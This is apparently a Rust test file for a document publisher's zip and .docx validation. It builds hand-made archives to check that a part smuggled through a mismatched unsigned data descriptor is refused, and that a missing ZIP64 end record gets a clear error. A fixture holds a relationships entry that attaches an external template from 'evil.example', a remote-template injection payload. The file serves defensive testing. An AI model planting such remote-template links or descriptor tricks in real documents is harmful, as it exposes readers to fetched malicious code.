//! The record after a part written without its signature, and a zip
//! whose end sends a reader to a ZIP64 end it does not hold.

use crate::common::hand_zip::{After, Part, crc, hand_zip, part};
use crate::common::office::{package, plain_docx, published, refused};

const DOCUMENT: &str = "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p/></w:body></w:document>";
const HIDER: &str = "docProps/thumbnail.bin";
/// Relationships that attach a template from another host.
const REMOTE: &str = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";

/// The record after a stored part whose sizes follow it was compared with
/// the directory only when it started with its signature, which the zip
/// format makes optional: a `.docx` whose record, unsigned, gives the part
/// 6 bytes, where the directory gives it the whole zip with an outside
/// template that follows, was published. Now it is not (an error naming
/// the part), the previous output left as it was; the same part with a
/// record that agrees, signed or not, is published.
#[test]
fn a_part_whose_unsigned_record_after_it_disagrees_is_not_published() {
    let mut data = b"filler".to_vec();
    data.extend(package(&[("word/_rels/settings.xml.rels", REMOTE)]));
    let parts = |after| {
        vec![
            part("word/document.xml", DOCUMENT.as_bytes()),
            Part {
                name: HIDER,
                data: &data,
                after,
            },
        ]
    };
    let mut shorter = hand_zip(&parts(After::Unsigned), |_| vec![]);
    let at = shorter.after[1] + 4;
    shorter.bytes[at..at + 4].copy_from_slice(&6u32.to_le_bytes());
    let mut checksum = hand_zip(&parts(After::Unsigned), |_| vec![]);
    let at = checksum.after[1];
    checksum.bytes[at..at + 4].copy_from_slice(&crc(b"filler").to_le_bytes());
    let said = format!(
        "the record after its part `{HIDER}` gives it another size or checksum than its directory does"
    );
    for bytes in [shorter.bytes, checksum.bytes] {
        refused("report.docx", &bytes, &[&said]);
    }
    // Not a false alarm: the record as a program writes it, with its
    // signature or without.
    for after in [After::Unsigned, After::Signed] {
        published("report.docx", &hand_zip(&parts(after), |_| vec![]).bytes);
    }
}

/// Info-ZIP's `zip -fz` writing to a pipe ends the directory with the mark
/// that sends a reader to a ZIP64 end for where the directory starts, and
/// writes none: `unzip`, Java and Python cannot read the file, nor can
/// fieldguide's zip reader, whose words (`invalid Zip archive: Invalid CDFH
/// offset in EOCD`) were all the author saw. Now the error says what is
/// wrong with the file and what to do.
#[test]
fn a_zip_whose_zip64_end_is_missing_is_refused_in_plain_words() {
    let mut bytes = plain_docx();
    let end = bytes.len() - 22;
    bytes[end + 16..end + 20].copy_from_slice(&u32::MAX.to_le_bytes());
    refused(
        "report.docx",
        &bytes,
        &[
            "its zip's directory cannot be found: its end says a ZIP64 end gives where the \
           directory starts, and there is none (Info-ZIP's `zip -fz` writes this to a pipe; \
           `unzip` cannot read it either; zip it again into a file)",
        ],
    );
}
